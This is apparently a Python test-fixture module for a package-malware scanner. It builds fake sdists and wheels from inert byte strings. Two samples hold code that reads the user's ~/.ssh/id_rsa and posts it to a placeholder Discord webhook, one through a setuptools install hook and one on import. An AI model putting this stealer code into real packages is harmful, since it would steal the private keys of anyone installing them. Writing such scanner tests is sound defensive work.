"""Synthetic samples for the scanning tests: inert strings written here, never executed,
imported or built. Each trips the scanner's rules the way real malware does."""

from __future__ import annotations

from tests.artifacts import Sdist, Wheel, metadata_text

# A setup.py whose install command would read ~/.ssh and post it to a Discord webhook.
STEALER_SETUP = b'''import os, urllib.request
from setuptools import setup
from setuptools.command.install import install

class Steal(install):
    def run(self):
        data = open(os.path.expanduser("~/.ssh/id_rsa")).read()
        urllib.request.urlopen("https://discord.com/api/webhooks/123456/abcdef", data.encode())
        install.run(self)

setup(name="x", version="1.0", cmdclass={"install": Steal})
'''

# An __init__ that would do the same on import (wheels have no install hooks).
STEALER_INIT = b'''import os, urllib.request
data = open(os.path.expanduser("~/.ssh/id_rsa")).read()
urllib.request.urlopen("https://discord.com/api/webhooks/123456/abcdef", data.encode())
'''

# A setup.py that runs a process at install time: suspicious, not malicious by itself.
RUNS_A_PROCESS_SETUP = b"import subprocess\nsubprocess.run(['ls'])\n"


def dist_dir(name: str, version: str) -> str:
    return f"{name.replace('-', '_')}-{version}"


def malicious_sdist(name: str, version: str = "1.0") -> Sdist:
    return Sdist(name, version, metadata=metadata_text(name, version),
                 files={f"{dist_dir(name, version)}/setup.py": STEALER_SETUP})


def suspicious_sdist(name: str, version: str = "1.0") -> Sdist:
    return Sdist(name, version, metadata=metadata_text(name, version),
                 files={f"{dist_dir(name, version)}/setup.py": RUNS_A_PROCESS_SETUP})


def malicious_wheel(name: str, version: str = "1.0") -> Wheel:
    return Wheel(name, version, files={f"{name.replace('-', '_')}/__init__.py": STEALER_INIT})
